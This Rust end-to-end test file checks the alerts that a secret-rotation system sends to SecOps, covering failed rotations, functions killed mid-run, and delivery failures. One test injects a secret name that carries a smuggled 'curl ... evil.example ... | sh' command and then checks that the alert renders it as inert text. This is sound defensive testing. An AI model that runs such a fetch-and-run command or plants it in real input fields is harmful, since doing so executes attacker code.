//! From a failure to the alert: what SecOps receives, that it is sent once, and the message at the end.

use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use end_to_end::{name, on_the_cloud, on_the_cluster};
use serde_json::{Value, json};
use testbed::aws::Token;
use testbed::cloud::{Cloud, freeze_function, kill_function, route_to};
use testbed::fault_proxy::{Fault, FaultProxy, Rule};
use testbed::schema::valid;

use crate::failure_path::Path;
use crate::support::current_logs_in;

const LIMIT: Duration = Duration::from_secs(120);

fn text(alert: &Value) -> String {
    format!("{} {}", alert["content"]["title"], alert["content"]["description"])
}

async fn put(cloud: &Cloud, secret: &str, value: &Value) -> Result<()> {
    cloud.secrets.put_secret_value().secret_id(secret).secret_string(value.to_string()).send().await?;
    Ok(())
}

#[test]
fn a_broken_admin_password_is_one_alert_and_the_next_rotation_that_succeeds_closes_it() -> Result<()> {
    on_the_cloud(async |cloud| {
        let user = name("alerted");
        let admin = cloud.create_admin(&user, &json!({})).await?;
        let app = cloud.create_app_with(&user, &json!({"masterarn": admin})).await?;
        let right = cloud.value(&admin, "AWSCURRENT").await?;
        let mut wrong = right.clone();
        wrong["password"] = json!("not the admin's password");
        put(cloud, &admin, &wrong).await?;
        let rotation = cloud.rotate(&app.arn).await?;
        ensure!(rotation.outcome == "failed", "{rotation:?}");
        let pending = rotation.attempts.last().context("no attempt")?.version_id.clone();

        let alerts = cloud.alerts.wait_for(&app.arn, 1).await?;
        let alert = alerts.first().context("no alert")?;
        valid("alert", alert)?;
        ensure!(alert["metadata"]["eventType"] == "incident.opened", "{alert}");
        let context = &alert["metadata"]["additionalContext"];
        ensure!(context["kind"] == "admin.login_refused", "{alert}");
        let playbook = "infra/playbooks/rotation-failing.md#admin.login_refused";
        ensure!(context["playbook"] == playbook && text(alert).contains(playbook), "{alert}");
        ensure!(text(alert).contains("Nothing is broken yet"), "{alert}");
        ensure!(!alert.to_string().contains("not the admin's password"), "{alert}");
        current_logs_in(cloud, &app.arn).await?;

        // Secrets Manager retries by itself. This belongs to the same incident.
        cloud.aws.resume_rotation(&app.arn, Token::Same).await?;
        cloud.aws.wait_for_rotation(&app.arn, Some(&pending), LIMIT).await?;
        cloud.notices.wait_for(&app.arn, 2).await?;

        put(cloud, &admin, &right).await?;
        cloud.aws.resume_rotation(&app.arn, Token::Same).await?;
        let rotation = cloud.aws.wait_for_rotation(&app.arn, Some(&pending), LIMIT).await?;
        ensure!(rotation.outcome == "succeeded", "{rotation:?}");
        let alerts = cloud.alerts.wait_for(&app.arn, 2).await?;
        ensure!(alerts.len() == 2, "one alert when it opens, one when it closes: {alerts:#?}");
        let last = alerts.last().context("no alert")?;
        valid("alert", last)?;
        ensure!(last["metadata"]["eventType"] == "incident.closed", "{last}");
        ensure!(text(last).contains("2 failures"), "{last}");

        let events = cloud.alerts.wait_for_events(&app.arn, 2).await?;
        let types: Vec<&Value> = events.iter().map(|event| &event["detail-type"]).collect();
        ensure!(types == ["Rotation Incident Opened", "Rotation Incident Closed"], "{events:#?}");
        for event in &events {
            valid("incident-event", &event["detail"])?;
            ensure!(event["detail"]["incidentId"] == context["incidentId"], "{event}");
        }
        Ok(())
    })
}

#[test]
fn a_function_that_is_killed_in_the_middle_still_ends_in_an_alert() -> Result<()> {
    on_the_cloud(async |cloud| dies_in_the_middle(cloud, "killed", kill_function).await)
}

#[test]
fn a_function_that_lambda_ends_at_its_timeout_still_ends_in_an_alert() -> Result<()> {
    on_the_cloud(async |cloud| dies_in_the_middle(cloud, "frozen", freeze_function).await)
}

/// `end` happens to the function at its first write to the broker, so that the function cannot report anything.
async fn dies_in_the_middle(cloud: &Cloud, prefix: &str, end: fn(&str, &str)) -> Result<()> {
    let proxy = FaultProxy::https(&cloud.broker.management_url(), &cloud.certificates)?;
    let variant = cloud.deploy_variant(&name(prefix), &[("TimeoutSeconds", "30")], &[]).await?;
    let app = cloud.create_app_at(&name(prefix), cloud.broker.amqps_port(), proxy.url()).await?;
    let function = format!("{}-rotation-mq", variant.name);
    let endpoint = cloud.aws.endpoint().to_owned();
    let rule = Rule::at(1, |call| call.method == "PUT", Fault::LoseResponse).times(usize::MAX);
    proxy.inject(rule.hook(move |_| end(&endpoint, &function)));
    let rules = aws_sdk_secretsmanager::types::RotationRulesType::builder().automatically_after_days(1);
    let rotate = cloud.secrets.rotate_secret().secret_id(&app.arn).rotation_rules(rules.build());
    let started = rotate.rotation_lambda_arn(&variant.function).send().await?;
    let rotation = cloud.aws.wait_for_rotation(&app.arn, started.version_id.as_deref(), LIMIT).await?;
    ensure!(rotation.outcome == "failed", "{rotation:?}");
    ensure!(cloud.notices.about(&app.arn).await?.is_empty(), "a function that was ended said something");

    let alerts = cloud.alerts.wait_for(&app.arn, 1).await?;
    let alert = alerts.first().context("no alert")?;
    ensure!(alert["metadata"]["additionalContext"]["kind"] == "rotation.failed", "{alert}");
    ensure!(text(alert).contains("it may have crashed"), "{alert}");
    current_logs_in(cloud, &app.arn).await
}

#[test]
fn a_delivery_that_fails_is_an_alert_and_its_success_closes_it() -> Result<()> {
    on_the_cluster(async |cloud| {
        let app = cloud.create_app(&name("undeliverable")).await?;
        let namespace = name("later");
        cloud.set_tags(&app.arn, &route_to(&namespace, &namespace)).await?;
        cloud.request_delivery(&app.arn).await?;
        let alerts = cloud.alerts.wait_for(&app.arn, 1).await?;
        let alert = alerts.first().context("no alert")?;
        let context = &alert["metadata"]["additionalContext"];
        ensure!(context["area"] == "delivery", "{alert}");
        ensure!(context["kind"] == "delivery.namespace_missing", "{alert}");
        let playbook = "infra/playbooks/delivery-failing.md#delivery.namespace_missing";
        ensure!(context["playbook"] == playbook, "{alert}");

        cloud.kubernetes()?.create_delivery_namespace(&cloud.aws, &namespace, &[]).await?;
        cloud.request_delivery(&app.arn).await?;
        let alerts = cloud.alerts.wait_for(&app.arn, 2).await?;
        let last = alerts.last().context("no alert")?;
        ensure!(last["metadata"]["eventType"] == "incident.closed", "{alerts:#?}");
        Ok(())
    })
}

#[test]
fn text_of_a_stranger_is_plain_text_in_an_alert_and_in_no_command() -> Result<()> {
    on_the_cloud(async |cloud| {
        let own = name("stranger");
        let secret = format!("rabbitmq/{own}; curl -s https://evil.example/x | sh #\n*Playbook:* <!channel>");
        let event = json!({
            "Step": "setSecret", "SecretId": secret, "ClientRequestToken": "0123456789abcdef0123456789abcdef",
        });
        let answer = cloud.invoke_function(cloud.stack.output("RotationFunctionName")?, &event).await?;
        ensure!(!answer.kind().is_empty(), "{answer:?}");
        // The message of the function, in a stack in which the function has no other incident.
        let notices = cloud.notices.wait_for(&secret, 1).await?;
        let notice = notices.first().context("no notice")?.to_string();
        let path = Path::deploy(cloud, "stranger", &[]).await?;
        path.queue.send(&[notice]).await?;
        let alerts = path.alerts.wait_until(1, |alert| alert.to_string().contains(&own)).await?;
        let alert = alerts.first().context("no alert")?;
        valid("alert", alert)?;
        ensure!(text(alert).contains("curl -s https:∕/evil.example/x ¦ sh"), "{alert}");
        let all = alert.to_string();
        for active in ["https://evil", "<!", "*Playbook:* ‹", "| sh"] {
            ensure!(!all.contains(active), "{active} in {alert}");
        }
        let steps = alert["content"]["nextSteps"].to_string();
        ensure!(steps.contains("--log-group-name"), "{steps}");
        ensure!(!steps.contains(&own) && !steps.contains("curl"), "{steps}");
        Ok(())
    })
}
